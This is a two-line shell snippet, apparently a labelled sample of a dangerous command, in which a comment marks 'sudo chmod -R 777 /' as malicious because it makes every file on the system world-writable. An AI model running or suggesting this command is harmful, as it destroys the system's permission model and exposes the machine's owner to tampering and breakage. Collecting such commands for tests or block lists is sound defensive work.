# malicious: opens the whole system
sudo chmod -R 777 /
